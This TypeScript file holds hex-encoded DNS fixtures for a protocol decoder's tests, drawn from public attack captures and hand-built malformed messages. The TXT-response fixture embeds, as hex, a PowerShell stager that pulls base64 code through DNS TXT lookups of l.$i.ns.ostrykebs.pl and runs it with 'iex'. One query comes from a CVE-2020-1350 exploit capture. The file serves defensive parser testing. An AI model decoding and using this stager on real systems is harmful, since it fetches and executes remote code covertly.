/**
 * DNS byte fixtures for the unit tests and the decoder conformance suite, in the stream form
 * (DNS over TCP, [RFC1035] 4.2.2: a 2-byte length, then the message) so that they can be cut
 * at any byte; dns.test.ts covers the datagram form.
 *
 * Messages from the shared captures in ../shared/data/pcaps/it-attacks/pcap-attack
 * (sbousseaden/PCAP-ATTACK; file and frame in each comment, fields checked against tshark
 * 4.0.17): the UDP messages of cmds_over_dns_txt_queries_and_reponses.pcap are given the TCP
 * length prefix; Exploit_DoS_cve-2020-1350_dns_sig_maxspl0it.pcapng frame 3 is DNS over TCP as
 * captured. The malformed ones are built by hand. In array order they form one conversation.
 */
import { hex } from '../../../../test/helpers/hex.js';
import { Direction } from '../../decoder.js';
import type { DecoderFixture } from '../../decoder.js';

const C = Direction.TO_SERVER;
const S = Direction.TO_CLIENT;

/** The 212-byte TXT string: the PowerShell stager of frame 42, as it appears on the wire. */
const STAGER =
  '40247374723d27273b24693d313b7768696c652831297b69662827272b286e736c6f6f6b7570202d713d74' +
  '787420226c2e24692e6e732e6f737472796b6562732e706c2e2229202d6d61746368202740282e2a294027' +
  '297b24737472202b3d205b53797374656d2e546578742e456e636f64696e675d3a3a555446382e47657453' +
  '7472696e67285b53797374656d2e436f6e766572745d3a3a46726f6d426173653634537472696e6728246d' +
  '6174636865735b315d29297d20656c7365207b627265616b3b7d24692b2b7d696578202473747240';

export const fixtures: readonly DecoderFixture[] = [
  {
    // cmds_over_dns_txt_queries_and_reponses.pcap frame 40 (UDP), length-prefixed
    name: 'txt-query',
    dir: C,
    role: 'normal',
    bytes: hex(
      '0023' + // TCP length 35
        '0002' + // ID 2
        '0100' + // flags: query, opcode 0, RD
        '0001' + // QDCOUNT 1
        '0000' + // ANCOUNT 0
        '0000' + // NSCOUNT 0
        '0000' + // ARCOUNT 0
        '016c' + // label "l"
        '026e73' + // label "ns"
        '096f737472796b656273' + // label "ostrykebs"
        '02706c' + // label "pl"
        '00' + // root
        '0010' + // QTYPE 16 TXT
        '0001', // QCLASS 1 IN
    ),
  },
  {
    // cmds_over_dns_txt_queries_and_reponses.pcap frame 42 (UDP), length-prefixed
    name: 'txt-response',
    dir: S,
    role: 'normal',
    bytes: hex(
      '0104' + // TCP length 260
        '0002' + // ID 2
        '8180' + // flags: response, opcode 0, RD, RA, rcode 0
        '0001' + // QDCOUNT 1
        '0001' + // ANCOUNT 1
        '0000' + // NSCOUNT 0
        '0000' + // ARCOUNT 0
        '016c026e73096f737472796b65627302706c00' + // QNAME l.ns.ostrykebs.pl
        '0010' + // QTYPE TXT
        '0001' + // QCLASS IN
        'c00c' + // answer NAME: pointer to offset 12 (the QNAME)
        '0010' + // TYPE TXT
        '0001' + // CLASS IN
        '00000e10' + // TTL 3600
        '00d5' + // RDLENGTH 213
        'd4' + // character-string length 212
        STAGER, // the PowerShell stager (212 bytes)
    ),
  },
  {
    // cmds_over_dns_txt_queries_and_reponses.pcap frame 43 (UDP), length-prefixed
    name: 'ptr-query',
    dir: C,
    role: 'normal',
    bytes: hex(
      '002c' + // TCP length 44
        '0001' + // ID 1
        '0100' + // flags: query, RD
        '0001' + // QDCOUNT 1
        '0000' + // ANCOUNT 0
        '0000' + // NSCOUNT 0
        '0000' + // ARCOUNT 0
        '0132' + // "2"
        '03313030' + // "100"
        '03313638' + // "168"
        '03313932' + // "192"
        '07696e2d61646472' + // "in-addr"
        '0461727061' + // "arpa"
        '00' + // root
        '000c' + // QTYPE 12 PTR
        '0001', // QCLASS IN
    ),
  },
  {
    // Exploit_DoS_cve-2020-1350_dns_sig_maxspl0it.pcapng frame 3 (DNS over TCP)
    name: 'sig-query-with-edns',
    dir: C,
    role: 'normal',
    bytes: hex(
      '002c' + // TCP length 44
        '43fd' + // ID 0x43fd
        '0100' + // flags: query, RD
        '0001' + // QDCOUNT 1
        '0000' + // ANCOUNT 0
        '0000' + // NSCOUNT 0
        '0001' + // ARCOUNT 1
        '0139' + // "9"
        '096962726f6b65746865' + // "ibrokethe"
        '036e6574' + // "net"
        '00' + // root
        '0018' + // QTYPE 24 SIG
        '0001' + // QCLASS IN
        '00' + // OPT NAME root
        '0029' + // TYPE 41 OPT
        '0fa0' + // CLASS: UDP payload size 4000
        '00008000' + // TTL: ext rcode 0, version 0, DO bit
        '0000', // RDLENGTH 0
    ),
  },
  {
    // Built: a response whose answer name points at itself (a compression loop)
    name: 'compression-loop',
    dir: S,
    role: 'malformed',
    bytes: hex(
      '001c' + // TCP length 28
        '0003' + // ID 3
        '8180' + // flags: response, RD, RA
        '0000' + // QDCOUNT 0
        '0001' + // ANCOUNT 1
        '0000' + // NSCOUNT 0
        '0000' + // ARCOUNT 0
        'c00c' + // answer NAME: pointer to offset 12, i.e. to itself
        '0001' + // TYPE A
        '0001' + // CLASS IN
        '0000003c' + // TTL 60
        '0004' + // RDLENGTH 4
        '0a000001', // 10.0.0.1
    ),
  },
  {
    // Built: an AXFR query whose name has a reserved 0x40 label type after "example"
    name: 'axfr-bad-label',
    dir: C,
    role: 'malformed',
    bytes: hex(
      '001e' + // TCP length 30
        '0004' + // ID 4
        '0000' + // flags: query
        '0001' + // QDCOUNT 1
        '0000' + // ANCOUNT 0
        '0000' + // NSCOUNT 0
        '0000' + // ARCOUNT 0
        '076578616d706c65' + // "example"
        '4103636f6d' + // label type 0x40 (reserved), then bytes
        '00' + // root
        '00fc' + // QTYPE 252 AXFR
        '0001', // QCLASS IN
    ),
  },
];
